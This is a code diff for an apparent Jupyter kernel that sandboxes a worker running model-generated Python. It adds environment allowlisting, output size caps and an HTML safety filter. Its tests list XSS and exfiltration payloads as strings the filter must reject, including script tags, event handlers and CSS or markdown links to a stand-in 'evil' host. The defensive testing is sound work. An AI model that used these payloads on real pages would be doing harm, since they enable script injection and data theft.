@@ -2,6 +2,12 @@
 //!
 //! The worker is this same binary in `worker` mode, in its own process group so a SIGINT sent
 //! by Jupyter to the kernel's group is not delivered twice; the kernel forwards it instead.
+//!
+//! Containment on this side (the worker contains itself, see worker/sandbox.rs): the worker
+//! starts with a cleared environment plus an allowlist, gets a private scratch directory that is
+//! removed with it, and everything it sends is bounded (line size, output bytes per call, stderr
+//! bytes per worker). Outputs of model code (`run_question`) are filtered: no clear_output, only
+//! text/plain, PNG/JPEG and HTML that passes a strict table-markup check.
 
 use crate::protocol::backend::{ErrorInfo, Output, OutputSink};
 use serde_json::{json, Value};
@@ -10,19 +16,29 @@ use std::process::Stdio;
 use std::sync::atomic::{AtomicI32, Ordering};
 use std::sync::Arc;
 use std::time::Duration;
-use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
+use tokio::io::{AsyncBufRead, AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
 use tokio::process::{Child, ChildStdin, Command};
 use tokio::sync::{mpsc, Notify};
 use tokio::time::Instant;
 
 /// How long Python gets to honour an interrupt before the worker is killed.
 pub const INTERRUPT_GRACE: Duration = Duration::from_secs(3);
+/// Longest protocol line accepted from the worker; longer ones are dropped unread.
+pub const MAX_LINE_BYTES: usize = 32 << 20;
+/// Output bytes one call may send to the notebook (the worker caps itself at 5 MB first).
+pub const MAX_CALL_OUTPUT_BYTES: usize = 16 << 20;
+/// Bytes of worker stderr forwarded to the kernel log per worker process.
+pub const MAX_STDERR_BYTES: usize = 4 << 20;
+/// Ops that run model-written code: their outputs are filtered (see `untrusted_output`).
+const UNTRUSTED_OPS: &[&str] = &["run_question"];
 
 #[derive(Debug)]
 enum Event {
     Output(Output),
-    Ready,
+    Ready(Value),
     Fatal(String),
+    /// A line longer than MAX_LINE_BYTES was dropped.
+    Oversized,
     Reply {
         id: u64,
         ok: bool,
@@ -87,6 +103,8 @@ impl InterruptHandle {
 
 pub struct Worker {
     child: Child,
+    /// The worker's private read-write directory; removed when the worker is dropped.
+    _scratch: Option<tempfile::TempDir>,
     stdin: ChildStdin,
     events: mpsc::UnboundedReceiver<Event>,
     next_id: u64,
@@ -139,7 +157,7 @@ fn parse_event(line: &str) -> Option<Event> {
                 })
                 .unwrap_or_default(),
         })),
-        "ready" => Event::Ready,
+        "ready" => Event::Ready(v.get("sandbox").cloned().unwrap_or(Value::Null)),
         "fatal" => Event::Fatal(format!("{}\n{}", s("message"), s("traceback"))),
         "reply" => Event::Reply {
             id: v.get("id").and_then(Value::as_u64).unwrap_or(0),
@@ -158,36 +176,54 @@ fn parse_event(line: &str) -> Option<Event> {
 impl Worker {
     /// Start the worker process; returns at once (Python imports continue in the background).
     pub fn spawn(exe: &PathBuf, interrupt: Arc<InterruptHandle>) -> anyhow::Result<Self> {
+        let scratch = worker_scratch();
         let mut cmd = Command::new(exe);
         cmd.arg("worker")
+            .env_clear()
+            .envs(worker_env(scratch.as_ref().map(|d| d.path())))
             .stdin(Stdio::piped())
             .stdout(Stdio::piped())
-            .stderr(Stdio::inherit())
+            .stderr(Stdio::piped())
             .kill_on_drop(true)
             // Own process group: Jupyter's killpg(SIGINT) must not reach Python directly.
             .process_group(0);
+        if std::env::var(SKIP_VALIDATION_ENV).as_deref() == Ok("1") {
+            tracing::error!(
+                "{SKIP_VALIDATION_ENV}=1: the AST validator is OFF; generated code is contained by the worker sandbox ONLY"
+            );
+        }
         let mut child = cmd.spawn()?;
         let stdin = child.stdin.take().expect("piped stdin");
         let stdout = child.stdout.take().expect("piped stdout");
+        let stderr = child.stderr.take().expect("piped stderr");
         interrupt
             .pid
             .store(child.id().map(|p| p as i32).unwrap_or(0), Ordering::SeqCst);
+        tokio::spawn(forward_stderr(stderr));
         let (tx, events) = mpsc::unbounded_channel();
         tokio::spawn(async move {
-            let mut lines = BufReader::new(stdout).lines();
-            while let Ok(Some(line)) = lines.next_line().await {
-                match parse_event(&line) {
-                    Some(ev) => {
-                        if tx.send(ev).is_err() {
-                            return;
+            let mut reader = BufReader::new(stdout);
+            let mut line = Vec::new();
+            loop {
+                let ev = match read_line_capped(&mut reader, &mut line, MAX_LINE_BYTES).await {
+                    Ok(Some(true)) => match parse_event(&String::from_utf8_lossy(&line)) {
+                        Some(ev) => ev,
+                        None => {
+                            tracing::warn!("worker sent an unreadable line ({} bytes)", line.len());
+                            continue;
                         }
-                    }
-                    None => tracing::warn!("worker sent an unreadable line ({} bytes)", line.len()),
+                    },
+                    Ok(Some(false)) => Event::Oversized,
+                    Ok(None) | Err(_) => return,
+                };
+                if tx.send(ev).is_err() {
+                    return;
                 }
             }
         });
         Ok(Self {
             child,
+            _scratch: scratch,
             stdin,
             events,
             next_id: 1,
@@ -201,7 +237,10 @@ impl Worker {
     pub async fn wait_ready(&mut self) -> Result<(), CallError> {
         while !self.ready {
             match self.events.recv().await {
-                Some(Event::Ready) => self.ready = true,
+                Some(Event::Ready(report)) => {
+                    self.ready = true;
+                    log_sandbox_once(&report);
+                }
                 Some(Event::Fatal(msg)) => return Err(CallError::Died(msg)),
                 Some(_) => {}
                 None => return Err(CallError::Died(self.exit_description().await)),
@@ -219,7 +258,12 @@ impl Worker {
                 match st.signal() {
                     Some(9) => "the Python process was killed (SIGKILL: out of memory or a resource limit?)".into(),
                     Some(11) => "the Python process crashed (segmentation fault)".into(),
+                    Some(24) => format!("the Python process used up its CPU time limit ({} s, RLIMIT_CPU)", crate::worker::sandbox::CPU_SECONDS),
+                    Some(25) => "the Python process exceeded the file size limit (RLIMIT_FSIZE)".into(),
+                    Some(31) => "the Python process made a forbidden system call (seccomp, SIGSYS)".into(),
+                    Some(6) => "the Python process aborted (SIGABRT; possibly out of memory under the worker's memory limit)".into(),
                     Some(sig) => format!("the Python process died from signal {sig}"),
+                    None if st.code() == Some(70) => "the worker ended itself because a question left a thread running (integrity protection)".into(),
                     None => format!("the Python process exited with status {}", st.code().unwrap_or(-1)),
                 }
             }
@@ -244,9 +288,22 @@ impl Worker {
         }
         let _ = self.stdin.flush().await;
         self.interrupt.busy.store(true, Ordering::SeqCst);
-        let result = self.collect(id, sink, deadline).await;
+        let untrusted = UNTRUSTED_OPS.contains(&op);
+        let result = self.collect(id, sink, deadline, untrusted).await;
         self.interrupt.busy.store(false, Ordering::SeqCst);
-        result
+        match result {
+            Ok(mut value) if op == "load_dataset" => {
+                // The profile's HTML is built from the data: it must be escaped table markup.
+                if let Some(html) = value.get("html").and_then(Value::as_str) {
+                    if !html_is_safe(html) {
+                        tracing::error!("load_dataset returned HTML that is not plain escaped table markup; dropped");
+                        value["html"] = Value::String(String::new());
+                    }
+                }
+                Ok(value)
+            }
+            other => other,
+        }
     }
 
     async fn collect(
@@ -254,15 +311,35 @@ impl Worker {
         id: u64,
         sink: Option<&OutputSink>,
         deadline: Option<Instant>,
+        untrusted: bool,
     ) -> Result<Value, CallError> {
         let far = Instant::now() + Duration::from_secs(365 * 24 * 3600);
+        let mut sent = 0usize;
+        let mut capped = false;
         let mut deadline_at = deadline.unwrap_or(far);
         let mut interrupted = false;
         loop {
             let interrupt = self.interrupt.clone();
             tokio::select! {
                 ev = self.events.recv() => match ev {
-                    Some(Event::Output(out)) => { if let Some(s) = sink { s.send(out) } }
+                    Some(Event::Output(out)) => {
+                        let out = if untrusted { untrusted_output(out) } else { Some(out) };
+                        if let (Some(s), Some(out)) = (sink, out) {
+                            sent += output_size(&out);
+                            if sent <= MAX_CALL_OUTPUT_BYTES {
+                                s.send(out);
+                            } else if !capped {
+                                capped = true;
+                                s.stream("stderr", format!("\n[output truncated: this cell sent more than {} MB of output]\n", MAX_CALL_OUTPUT_BYTES >> 20));
+                            }
+                        }
+                    }
+                    Some(Event::Oversized) => {
+                        tracing::warn!("dropped a worker message larger than {} MB", MAX_LINE_BYTES >> 20);
+                        if let Some(s) = sink {
+                            s.stream("stderr", format!("\n[an output larger than {} MB was dropped]\n", MAX_LINE_BYTES >> 20));
+                        }
+                    }
                     Some(Event::Reply { id: rid, ok, value, error, interrupted: intr }) if rid == id => {
                         return match (ok, intr) {
                             (true, _) => Ok(value),
@@ -300,6 +377,404 @@ impl Worker {
     }
 }
 
+/// Disables the AST check of generated code (and only that); the sandbox stays on.
+pub const SKIP_VALIDATION_ENV: &str = "LLM_ANALYTICS_UNSAFE_SKIP_VALIDATION";
+
+/// A fresh private directory for one worker process, with the matplotlib font cache copied in
+/// so the worker does not rebuild it (it cannot run `fc-list` anyway).
+fn worker_scratch() -> Option<tempfile::TempDir> {
+    let dir = tempfile::Builder::new()
+        .prefix("llm-analytics-worker-")
+        .tempdir()
+        .map_err(|e| tracing::warn!("no scratch directory for the worker: {e}"))
+        .ok()?;
+    let mpl = dir.path().join("matplotlib");
+    let _ = std::fs::create_dir_all(&mpl);
+    let _ = std::fs::create_dir_all(dir.path().join("cache"));
+    let env = |k: &str| std::env::var_os(k).map(PathBuf::from);
+    let home = env("HOME");
+    let sources = [
+        env("MPLCONFIGDIR"),
+        env("XDG_CACHE_HOME").map(|d| d.join("matplotlib")),
+        home.as_ref().map(|h| h.join(".cache/matplotlib")),
+        home.as_ref().map(|h| h.join(".config/matplotlib")),
+        home.as_ref().map(|h| h.join(".matplotlib")),
+    ];
+    'found: for src in sources.into_iter().flatten() {
+        let Ok(entries) = std::fs::read_dir(&src) else {
+            continue;
+        };
+        for e in entries.flatten() {
+            let name = e.file_name();
+            let name = name.to_string_lossy();
+            if name.starts_with("fontlist-") && name.ends_with(".json") {
+                let _ = std::fs::copy(e.path(), mpl.join(&*name));
+                break 'found;
+            }
+        }
+    }
+    Some(dir)
+}
+
+/// The connection file named on the kernel's command line (`-f PATH`), if any.
+fn connection_file() -> Option<PathBuf> {
+    let mut args = std::env::args().skip(1);
+    while let Some(a) = args.next() {
+        if a == "-f" || a == "--connection-file" {
+            return args.next().map(PathBuf::from);
+        }
+        if let Some(p) = a.strip_prefix("--connection-file=") {
+            return Some(PathBuf::from(p));
+        }
+    }
+    None
+}
+
+/// The worker's whole environment: the allowlisted part of ours plus the sandbox's settings.
+fn worker_env(scratch: Option<&std::path::Path>) -> Vec<(String, std::ffi::OsString)> {
+    use crate::worker::sandbox;
+    let mut env: Vec<(String, std::ffi::OsString)> = std::env::vars_os()
+        .filter_map(|(k, v)| k.into_string().ok().map(|k| (k, v)))
+        .filter(|(k, _)| sandbox::passes_through(k))
+        .collect();
+    if let Some(dir) = scratch {
+        env.push((sandbox::SCRATCH_ENV.into(), dir.into()));
+        env.push(("TMPDIR".into(), dir.into()));
+        env.push(("MPLCONFIGDIR".into(), dir.join("matplotlib").into()));
+        env.push(("XDG_CACHE_HOME".into(), dir.join("cache").into()));
+    }
+    env.push(("PYTHONDONTWRITEBYTECODE".into(), "1".into()));
+    // The kernel's Arrow files live in a private directory under /dev/shm (else the temp dir).
+    let shm = std::path::Path::new("/dev/shm");
+    let data = if shm.is_dir() {
+        shm.to_path_buf()
+    } else {
+        std::env::temp_dir()
+    };
+    env.push((sandbox::DATA_DIRS_ENV.into(), data.into()));
+    // Never readable, even inside an allowed folder: the HMAC key and the kernel's own records.
+    let settings = super::settings::Settings::from_lookup(&|k| std::env::var(k).ok());
+    let deny: Vec<String> = connection_file()
+        .into_iter()
+        .chain(std::iter::once(settings.data_dir))
+        .map(|p| p.display().to_string())
+        .collect();
+    env.push((sandbox::DENY_ENV.into(), deny.join(":").into()));
+    env
+}
+
+/// Copy the worker's stderr to ours, up to MAX_STDERR_BYTES per worker, then drain it.
+async fn forward_stderr(mut stderr: tokio::process::ChildStderr) {
+    let mut buf = vec![0u8; 64 << 10];
+    let mut forwarded = 0usize;
+    let mut out = tokio::io::stderr();
+    loop {
+        let n = match stderr.read(&mut buf).await {
+            Ok(0) | Err(_) => return,
+            Ok(n) => n,
+        };
+        if forwarded < MAX_STDERR_BYTES {
+            let take = n.min(MAX_STDERR_BYTES - forwarded);
+            let _ = out.write_all(&buf[..take]).await;
+            forwarded += n;
+            if forwarded >= MAX_STDERR_BYTES {
+                let note = format!(
+                    "\n[llm-analytics: worker stderr truncated after {} MB]\n",
+                    MAX_STDERR_BYTES >> 20
+                );
+                let _ = out.write_all(note.as_bytes()).await;
+            }
+        }
+    }
+}
+
+/// Read one line (without its newline) into `line`, keeping at most `max` bytes.
+/// `Some(true)`: a complete line; `Some(false)`: a longer line was skipped; `None`: end of input.
+async fn read_line_capped<R: AsyncBufRead + Unpin>(
+    reader: &mut R,
+    line: &mut Vec<u8>,
+    max: usize,
+) -> std::io::Result<Option<bool>> {
+    line.clear();
+    let mut overflow = false;
+    let mut any = false;
+    loop {
+        let available = reader.fill_buf().await?;
+        if available.is_empty() {
+            return Ok(any.then_some(!overflow));
+        }
+        any = true;
+        let (chunk, used, done) = match available.iter().position(|&b| b == b'\n') {
+            Some(i) => (&available[..i], i + 1, true),
+            None => (available, available.len(), false),
+        };
+        if !overflow {
+            if line.len() + chunk.len() <= max {
+                line.extend_from_slice(chunk);
+            } else {
+                overflow = true;
+                line.clear();
+                line.shrink_to(64 << 10);
+            }
+        }
+        reader.consume(used);
+        if done {
+            return Ok(Some(!overflow));
+        }
+    }
+}
+
+/// Say once per kernel process which containment layers the worker reports.
+fn log_sandbox_once(report: &Value) {
+    static LOGGED: std::sync::Once = std::sync::Once::new();
+    if report.is_null() {
+        return;
+    }
+    let summary = crate::worker::sandbox::summary(report);
+    let inactive = report["layers"]
+        .as_array()
+        .is_some_and(|a| a.iter().any(|l| l["active"] != true));
+    let mut first = false;
+    LOGGED.call_once(|| first = true);
+    if first {
+        // Straight to stderr: the default log filter hides info, and this is asked for once.
+        eprintln!("[llm-analytics] {summary}");
+        if inactive {
+            tracing::warn!("some worker containment layers are not active (see %sandbox)");
+        }
+    } else {
+        tracing::debug!("{summary}");
+    }
+}
+
+/// The kernel's own containment facts, for `%sandbox`.
+pub fn kernel_layers(question_timeout: Duration) -> Vec<(String, bool, String)> {
+    let validator_on = std::env::var(SKIP_VALIDATION_ENV).as_deref() != Ok("1");
+    // SAFETY: prctl(PR_GET_DUMPABLE) has no arguments to get wrong.
+    let dumpable = unsafe { libc::prctl(libc::PR_GET_DUMPABLE, 0, 0, 0, 0) };
+    vec![
+        (
+            "validator".into(),
+            validator_on,
+            if validator_on {
+                "AST allowlist (code-guard) checks generated code before it runs".into()
+            } else {
+                format!("OFF ({SKIP_VALIDATION_ENV}=1): only the sandbox contains generated code")
+            },
+        ),
+        (
+            "kernel process".into(),
+            dumpable == 0,
+            if dumpable == 0 {
+                "not dumpable: its /proc files (environ, mem) are closed to same-user processes"
+                    .into()
+            } else {
+                "dumpable (PR_SET_DUMPABLE failed)".into()
+            },
+        ),
+        (
+            "output safety".into(),
+            true,
+            "question outputs: text, PNG/JPEG and escaped table HTML only; no clear_output".into(),
+        ),
+        (
+            "timeout".into(),
+            true,
+            format!(
+                "each question's code stops after {} s (then the worker is restarted)",
+                question_timeout.as_secs_f64()
+            ),
+        ),
+    ]
+}
+
+fn json_text_size(v: &Value) -> usize {
+    match v {
+        Value::String(s) => s.len(),
+        Value::Array(a) => a.iter().map(json_text_size).sum(),
+        Value::Object(o) => o.iter().map(|(k, v)| k.len() + json_text_size(v)).sum(),
+        _ => 8,
+    }
+}
+
+fn output_size(out: &Output) -> usize {
+    match out {
+        Output::Stream { text, .. } => text.len(),
+        Output::DisplayData { data, metadata, .. }
+        | Output::UpdateDisplayData { data, metadata, .. }
+        | Output::ExecuteResult { data, metadata } => {
+            json_text_size(data) + json_text_size(metadata)
+        }
+        Output::Error(e) => {
+            e.ename.len() + e.evalue.len() + e.traceback.iter().map(String::len).sum::<usize>()
+        }
+        Output::ClearOutput { .. } => 8,
+    }
+}
+
+/// Keep only what model code may show: no clear_output (it could hide the code that ran), and
+/// in rich outputs only text/plain, PNG/JPEG and HTML that is escaped table markup.
+fn untrusted_output(out: Output) -> Option<Output> {
+    let filter = |data: Value| -> Option<Value> {
+        let Value::Object(map) = data else {
+            return None;
+        };
+        let kept: serde_json::Map<String, Value> = map
+            .into_iter()
+            .filter(|(mime, v)| match (mime.as_str(), v.as_str()) {
+                ("text/plain", Some(_)) => true,
+                ("image/png" | "image/jpeg", Some(b64)) => b64
+                    .bytes()
+                    .all(|c| c.is_ascii_alphanumeric() || b"+/=\n\r".contains(&c)),
+                ("text/html", Some(html)) => {
+                    let ok = html_is_safe(html);
+                    if !ok {
+                        tracing::warn!("dropped unsafe HTML from generated code");
+                    }
+                    ok
+                }
+                _ => false,
+            })
+            .collect();
+        (!kept.is_empty()).then_some(Value::Object(kept))
+    };
+    match out {
+        Output::ClearOutput { .. } => None,
+        Output::DisplayData {
+            data,
+            metadata,
+            display_id,
+        } => filter(data).map(|data| Output::DisplayData {
+            data,
+            metadata,
+            display_id,
+        }),
+        Output::UpdateDisplayData {
+            data,
+            metadata,
+            display_id,
+        } => filter(data).map(|data| Output::UpdateDisplayData {
+            data,
+            metadata,
+            display_id,
+        }),
+        Output::ExecuteResult { data, metadata } => {
+            filter(data).map(|data| Output::ExecuteResult { data, metadata })
+        }
+        other => Some(other),
+    }
+}
+
+/// Whether `html` is table markup as pandas' `to_html(escape=True)` writes it: a few table
+/// tags, a few attributes, no script, no event handler, no URL, no comment, and CSS without
+/// `url(`, `@import`, `expression` or escapes. Anything else is refused, not repaired.
+pub fn html_is_safe(html: &str) -> bool {
+    const TAGS: &[&str] = &[
+        "table", "thead", "tbody", "tfoot", "tr", "th", "td", "div", "p", "span", "br", "style",
+        "caption", "b", "i", "em", "strong", "small", "code",
+    ];
+    const ATTRS: &[&str] = &[
+        "border", "class", "style", "rowspan", "colspan", "valign", "halign", "scoped", "id",
+    ];
+    fn css_ok(css: &str) -> bool {
+        let lower = css.to_ascii_lowercase();
+        ![
+            "url(",
+            "@import",
+            "expression",
+            "javascript",
+            "\\",
+            "<",
+            "&",
+            "behavior",
+            "binding",
+        ]
+        .iter()
+        .any(|bad| lower.contains(bad))
+    }
+    let b = html.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] != b'<' {
+            i += 1;
+            continue;
+        }
+        i += 1;
+        let closing = b.get(i) == Some(&b'/');
+        if closing {
+            i += 1;
+        }
+        let start = i;
+        while i < b.len() && b[i].is_ascii_alphanumeric() {
+            i += 1;
+        }
+        let name = html[start..i].to_ascii_lowercase();
+        if !TAGS.contains(&name.as_str()) {
+            return false;
+        }
+        // Attributes up to '>'.
+        loop {
+            while i < b.len() && b[i].is_ascii_whitespace() {
+                i += 1;
+            }
+            match b.get(i) {
+                None => return false,
+                Some(b'>') => {
+                    i += 1;
+                    break;
+                }
+                Some(b'/') if b.get(i + 1) == Some(&b'>') => {
+                    i += 2;
+                    break;
+                }
+                _ => {}
+            }
+            if closing {
+                return false;
+            }
+            let a0 = i;
+            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'-') {
+                i += 1;
+            }
+            let attr = html[a0..i].to_ascii_lowercase();
+            if !ATTRS.contains(&attr.as_str()) {
+                return false;
+            }
+            if b.get(i) == Some(&b'=') {
+                i += 1;
+                let value = if b.get(i) == Some(&b'"') {
+                    let v0 = i + 1;
+                    let Some(len) = html[v0..].find('"') else {
+                        return false;
+                    };
+                    i = v0 + len + 1;
+                    &html[v0..v0 + len]
+                } else {
+                    let v0 = i;
+                    while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'-') {
+                        i += 1;
+                    }
+                    &html[v0..i]
+                };
+                if value.contains('<') || (attr == "style" && !css_ok(value)) {
+                    return false;
+                }
+            }
+        }
+        if name == "style" && !closing {
+            // Raw text up to </style>: CSS only.
+            let Some(end) = html[i..].to_ascii_lowercase().find("</style") else {
+                return false;
+            };
+            if !css_ok(&html[i..i + end]) {
+                return false;
+            }
+            i += end;
+        }
+    }
+    true
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -326,5 +801,104 @@ mod tests {
         );
         assert!(parse_event("not json").is_none());
         assert!(parse_event(r#"{"event":"mystery"}"#).is_none());
+    }
+
+    #[test]
+    fn pandas_tables_pass_the_html_check() {
+        let plain = "<table border=\"1\" class=\"dataframe\">\n  <thead>\n    <tr style=\"text-align: right;\">\n      <th></th>\n      <th>a&lt;b</th>\n    </tr>\n  </thead>\n  <tbody>\n    <tr>\n      <th rowspan=\"2\" valign=\"top\">r1</th>\n      <td>&lt;img src=x onerror=alert(1)&gt;</td>\n    </tr>\n  </tbody>\n</table><p>Showing 10 of 50 rows</p>";
+        assert!(html_is_safe(plain));
+        let notebook = "<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n    }\n</style>\n<table border=\"1\" class=\"dataframe\"><tr><th colspan=\"2\" halign=\"left\">x</th></tr></table>\n<p>2 rows × 2 columns</p>\n</div>";
+        assert!(html_is_safe(notebook));
+        assert!(html_is_safe("<div class=\"llm-analytics-profile\"><table border=\"0\" class=\"dataframe\"></table></div>"));
+    }
+
+    #[test]
+    fn injected_html_fails_the_check() {
+        for bad in [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<table onmouseover=\"alert(1)\"></table>",
+            "<td style=\"background:url(https://evil/x)\">x</td>",
+            "<td style=\"background:u&#114;l(https://evil/x)\">x</td>",
+            "<style>td { background: url(https://evil/?d=1) }</style>",
+            "<style>@import 'https://evil/x.css';</style>",
+            "<style>td{}</style><script>alert(1)</script>",
+            "<style>td{} </style ><svg onload=alert(1)>",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "<!-- x --><table></table>",
+            "<iframe src=\"https://evil\"></iframe>",
+            "<table",
+            "<td class=\"a\"x onclick=\"y\">",
+            "<style>unterminated",
+        ] {
+            assert!(!html_is_safe(bad), "accepted: {bad}");
+        }
+    }
+
+    #[test]
+    fn untrusted_outputs_are_filtered() {
+        let out = untrusted_output(Output::DisplayData {
+            data: json!({"text/html": "<script>x</script>", "text/plain": "x",
+                         "application/javascript": "alert(1)", "image/svg+xml": "<svg onload=x>",
+                         "text/markdown": "![x](https://evil/?d=1)"}),
+            metadata: json!({}),
+            display_id: None,
+        });
+        match out {
+            Some(Output::DisplayData { data, .. }) => assert_eq!(data, json!({"text/plain": "x"})),
+            other => panic!("unexpected {other:?}"),
+        }
+        assert!(untrusted_output(Output::ClearOutput { wait: false }).is_none());
+        assert!(untrusted_output(Output::ExecuteResult {
+            data: json!({"text/html": "<b onclick=x>"}),
+            metadata: json!({})
+        })
+        .is_none());
+        assert!(matches!(
+            untrusted_output(Output::Stream {
+                name: "stdout".into(),
+                text: "<b>".into()
+            }),
+            Some(Output::Stream { .. })
+        ));
+    }
+
+    #[tokio::test]
+    async fn long_lines_are_skipped_not_buffered() {
+        let data = format!("{}\nshort\n{}", "x".repeat(100), "tail-without-newline");
+        let mut reader = BufReader::with_capacity(16, data.as_bytes());
+        let mut line = Vec::new();
+        assert_eq!(
+            read_line_capped(&mut reader, &mut line, 10).await.unwrap(),
+            Some(false)
+        );
+        assert_eq!(
+            read_line_capped(&mut reader, &mut line, 10).await.unwrap(),
+            Some(true)
+        );
+        assert_eq!(line, b"short");
+        assert_eq!(
+            read_line_capped(&mut reader, &mut line, 100).await.unwrap(),
+            Some(true)
+        );
+        assert_eq!(line, b"tail-without-newline");
+        assert_eq!(
+            read_line_capped(&mut reader, &mut line, 100).await.unwrap(),
+            None
+        );
+    }
+
+    #[test]
+    fn worker_env_has_no_secrets() {
+        let env = worker_env(Some(std::path::Path::new("/tmp/scratch")));
+        let names: Vec<&str> = env.iter().map(|(k, _)| k.as_str()).collect();
+        for k in &names {
+            assert!(
+                crate::worker::sandbox::worker_keeps(k),
+                "{k} would be stripped by the worker"
+            );
+        }
+        assert!(!names.contains(&"OPENAI_API_KEY") && !names.contains(&"MONGODB_URL"));
+        assert!(names.contains(&"TMPDIR") && names.contains(&crate::worker::sandbox::SCRATCH_ENV));
     }
 }
